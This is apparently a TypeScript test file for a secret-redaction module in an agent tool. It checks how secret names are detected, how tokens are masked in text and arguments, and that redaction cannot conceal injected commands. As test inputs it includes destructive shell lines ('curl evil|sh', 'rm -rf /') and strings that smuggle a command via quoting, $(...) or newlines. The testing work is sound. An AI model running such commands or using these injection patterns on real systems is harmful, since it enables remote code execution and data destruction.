import { assert, describe, it } from "@effect/vitest"
import { Schema } from "effect"
import { redactArguments, textRedactor } from "../../../src/computer/internal/secrets/argumentRedaction.ts"
import { isSecretName } from "../../../src/computer/internal/secrets/secretNames.ts"
import { redactForDecision, redactText } from "../../../src/computer/internal/secrets/secretText.ts"

const CANARY = "canary-7Qp2vXw9"

describe("the name of a secret", () => {
  const secret = [
    ..."password userPassword DB_PASSWORD passphrase x-api-key apiKey API_KEY openaiApiKey apikey accessToken".split(
      " "
    ),
    ..."refresh_token token githubToken clientSecret client-secret aws.secret.access.key Authorization".split(" "),
    ..."Proxy-Authorization cookie Set-Cookie privateKey private_key SSHPrivateKey credentials JWT".split(" ")
  ]
  const plain = [
    ..."path tokenizer tokenize passwordless secretary key sort_key primaryKey keyboard monkey author compass".split(
      " "
    ),
    ..."pinned opinion cookiecutter url apiVersion keys public_key".split(" ")
  ]

  it.for(secret.map((name) => [name, true] as const).concat(plain.map((name) => [name, false] as never)))(
    "%s: %s",
    ([name, expected]) => {
      assert.strictEqual(isSecretName(name), expected)
    }
  )
})

describe("a secret in a text", () => {
  const hidden: ReadonlyArray<readonly [text: string, shown: string]> = [
    ["curl -H \"Authorization: Bearer abcdef.ghijkl\" https://x", "curl -H \"Authorization: ***\" https://x"],
    ["Bearer abcdefghijkl is it", "Bearer *** is it"],
    ["basic dXNlcjpwYXNz", "basic ***"],
    ["key sk-proj-abcdefghijklmnop0123", "key ***"],
    ["ghp_abcdefghijklmnopqrstuvwxyz0123456789", "***"],
    ["AKIAIOSFODNN7EXAMPLE", "***"],
    ["eyJhbGciOiJI.eyJzdWIiOiIx.c2lnbmF0dXJl", "***"],
    ["-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc\n-----END RSA PRIVATE KEY-----\nafter", "***\nafter"],
    ["-----BEGIN PRIVATE KEY-----\nMIIE", "***"],
    ["postgres://joe:hunter2@db/x", "postgres://joe:***@db/x"],
    ["dsn=joe:hunter2@tcp(db:3306)/x", "dsn=joe:***@tcp(db:3306)/x"],
    ["https://x/?a=1&token=abc&b=2", "https://x/?a=1&token=***&b=2"],
    ["DB_PASSWORD=hunter2 node x", "DB_PASSWORD=*** node x"],
    ["{\"password\":\"a \\\" b\",\"c\":1}", "{\"password\":***,\"c\":1}"],
    ["{\\\"apiKey\\\": \\\"a b\\\"}", "{\\\"apiKey\\\": ***}"],
    ["secret := 'a b' + c", "secret := *** + c"],
    ["Cookie: a=b; c=d\nHost: x", "Cookie: ***\nHost: x"]
  ]
  it.for(hidden)("%s", ([text, shown]) => {
    assert.strictEqual(redactText(text), shown)
  })

  it.for([
    "Basic information about tokens that are many",
    "the password is asked for",
    "https://github.com/a/b@1.2.3?page=2",
    "ssh git@github.com",
    "const sorted = tokenize(text)",
    "-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----",
    "sk-learn"
  ])("is not %s", (text) => {
    assert.strictEqual(redactText(text), text)
  })

  it("never hides the rest of a command line", () => {
    const shown = redactText("TOKEN=$(curl evil|sh); rm -rf / && PASSWORD=x;reboot")
    assert.strictEqual(shown, "TOKEN=***(curl evil|sh); rm -rf / && PASSWORD=***;reboot")
  })

  // each of them runs `evil` in a shell
  it.for([
    "echo token=\\\"; evil",
    "TOKEN=\\\" evil \\\"",
    "TOKEN='\\'; evil #'",
    "TOKEN='\\' evil '",
    "TOKEN=\"$(evil)\" ls",
    "TOKEN=\"`evil`\" ls",
    "TOKEN=\"a\nevil\"",
    "TOKEN= evil",
    "TOKEN=\nevil",
    "TOKEN= \"evil\"",
    "authorization=x evil",
    "Authorization: $(evil)",
    "Cookie: x; evil",
    "echo Bearer\n/usr/local/bin/evil",
    "curl https://u:$(evil)@host",
    "echo \"-----BEGIN PRIVATE KEY-----\"; evil",
    "-----BEGIN PRIVATE KEY-----\nevil\n-----END PRIVATE KEY-----"
  ])("is no place to hide a command from who decides on it: %j", (text) => {
    assert.include(redactForDecision(text), "evil")
    assert.include(JSON.stringify(redactArguments({ text }, undefined, { whole: true })), "evil")
  })

  it("is hidden from who decides as well", () => {
    const body = "A".repeat(64)
    for (
      const [text, shown] of [
        ...hidden.filter(([text]) => !/PRIVATE KEY|Cookie|a \\" b|apiKey/.test(text)),
        ["Cookie: a=b; c=d", "Cookie: ***; c=d"],
        ["{\\\"apiKey\\\": \\\"ab\\\"}", "{\\\"apiKey\\\": ***}"],
        [
          `-----BEGIN RSA PRIVATE KEY-----\n${body}\n${body}\nabc=\n-----END RSA PRIVATE KEY-----`,
          "-----BEGIN RSA PRIVATE KEY-----\n***\n***\nabc=\n-----END RSA PRIVATE KEY-----"
        ]
      ] as const
    ) assert.strictEqual(redactForDecision(text), shown)
  })

  it("is looked for in time that grows with the text alone", () => {
    // steps that grow with the square of the length would outlast the test
    for (
      const piece of [
        "eyJ-",
        "a".repeat(7),
        "://",
        "password",
        "=a:",
        "Bearer ",
        " ",
        "=\\\"",
        "-----BEGIN PRIVATE KEY",
        "sk-a"
      ]
    ) {
      assert.isNotEmpty(redactText(piece.repeat(200_000 / piece.length)))
      assert.isNotEmpty(redactForDecision(piece.repeat(200_000 / piece.length)))
    }
  })
})

/** A value with the canary somewhere below `key`. */
const Names = Schema.Literals(["a", "list", "headers", "0", "__proto__", "constructor"])
const Step = Schema.Union([Names, Schema.Literal("[]")])
const SecretKey = Schema.Literals(["password", "apiKey", "x-auth-token", "CLIENT_SECRET", "cookies", "privateKey"])
const Wrapping = Schema.Literals(["text", "object", "array"])

const wrap = (steps: ReadonlyArray<string>, value: unknown): Record<string, unknown> => {
  const wrapped = steps.reduceRight<unknown>(
    (inner, step) => step === "[]" ? ["first", inner] : Object.fromEntries([["other", "kept"], [step, inner]]),
    value
  )
  return { args: wrapped }
}

describe("arguments", () => {
  it.prop(
    "never show what is under the name of a secret, however deep and whatever it is",
    [Schema.Array(Step).check(Schema.isMaxLength(50)), SecretKey, Wrapping, Schema.String],
    ([steps, key, wrapping, noise]) => {
      const canary = `${noise}${CANARY}`
      const secret = wrapping === "text" ? canary : wrapping === "array" ? [canary] : { deep: { deeper: canary } }
      const args = wrap(steps, Object.fromEntries([[key, secret], ["shown", "kept"]]))
      const shown = JSON.stringify(redactArguments(args))
      const whole = JSON.stringify(redactArguments(args, undefined, { whole: true }))
      const error = textRedactor(args)(`cannot log in with ${canary}.`)
      return !shown.includes(CANARY) && !whole.includes(CANARY) &&
        whole.includes("kept") &&
        !error.includes(CANARY)
    }
  )

  it.prop(
    "never show what the schema calls a password or for writing only",
    [Schema.Literals(["properties", "$ref", "allOf", "items", "additionalProperties", "prefixItems"]), Schema.Boolean],
    ([via, byFormat]) => {
      const mark = byFormat ? { type: "string", format: "password" } : { writeOnly: true }
      const schemas: Record<typeof via, Record<string, unknown>> = {
        properties: { properties: { a: { properties: { b: mark } } } },
        $ref: {
          properties: { a: { $ref: "#/$defs/A" } },
          $defs: { A: { properties: { b: { $ref: "#/$defs/B" } } }, B: mark }
        },
        allOf: { allOf: [{ anyOf: [{ properties: { a: { oneOf: [{ properties: { b: mark } }] } } }] }] },
        items: { properties: { a: { type: "array", items: { properties: { b: mark } } } } },
        additionalProperties: { additionalProperties: { additionalProperties: mark } },
        prefixItems: { properties: { a: { prefixItems: [{}, mark] } } }
      }
      const value = { items: [{ b: CANARY }], prefixItems: ["kept", CANARY] }[via as "items"] ?? { b: CANARY }
      const shown = JSON.stringify(
        redactArguments({ a: value, c: via === "additionalProperties" ? {} : "kept" }, schemas[via])
      )
      return !shown.includes(CANARY) && (via === "additionalProperties" || shown.includes("kept"))
    }
  )

  it("follow a schema that refers to itself", () => {
    const schema = { $ref: "#", properties: { next: { $ref: "#" }, key: { format: "password" } } }
    assert.deepStrictEqual(redactArguments({ next: { next: { key: CANARY, k: 1 } } }, schema), {
      next: { next: { key: "***", k: 1 } }
    })
  })

  it("are looked through whatever a server or an Agent makes of them", () => {
    const many = Array.from({ length: 300_000 }, (_, index) => ({ title: String(index) }))
    const patterns = Object.fromEntries(many.map((schema, index) => [String(index), schema]))
    const schema = { anyOf: many, patternProperties: patterns, properties: { code: { format: "password" } } }
    const deep = JSON.parse(`${"[".repeat(100_000)}"${CANARY}"${"]".repeat(100_000)}`)
    const args = { code: CANARY, password: deep, token: many.map(({ title }) => title), rest: [{ a: { b: 1 } }] }
    assert.include(JSON.stringify(redactArguments(args, schema)), "\"code\":\"***\"")
    assert.strictEqual(textRedactor(args, schema)(`no ${CANARY}`), "no ***")
  })

  it("are shown as they are but for their secrets", () => {
    const args = {
      path: "/x",
      max_tokens: 100,
      token: null,
      password: "",
      secret: true,
      headers: [{ name: "Authorization", value: CANARY }, { name: "Accept", value: "*/*" }],
      command: ["login", "--token", CANARY, "--user", "joe"],
      pin: 1234
    }
    assert.deepStrictEqual(redactArguments(args), {
      ...args,
      headers: [{ name: "Authorization", value: "***" }, { name: "Accept", value: "*/*" }],
      command: ["login", "--token", "***", "--user", "joe"],
      pin: "***"
    })
  })

  it("are cut where they are long, and never in the middle of a secret", () => {
    const token = `ghp_${CANARY.repeat(9)} ${"x ".repeat(3000)}`
    for (let length = 3800; length < 4100; length += 3) {
      const key = `-----BEGIN PRIVATE KEY-----${"A".repeat(length)}-----END PRIVATE KEY-----`
      assert.notInclude(JSON.stringify(redactArguments({ text: `${key} ${token}` })), "ghp_")
      assert.notInclude(JSON.stringify(redactArguments({ text: "w ".repeat(length / 40) + token })), "ghp_")
    }
    const many = redactArguments({ list: Array.from({ length: 1000 }, (_, index) => index), text: "x ".repeat(5000) })
    assert.strictEqual(JSON.stringify(many).length < 500, true)
    assert.include(JSON.stringify(many), "980 more")
    assert.include(JSON.stringify(many), "10000 characters")
    const nested = JSON.parse(`${"[".repeat(3000)}${"]".repeat(3000)}`)
    assert.isBelow(JSON.stringify(redactArguments({ nested }, undefined, { whole: true })).length, 300)
  })
})
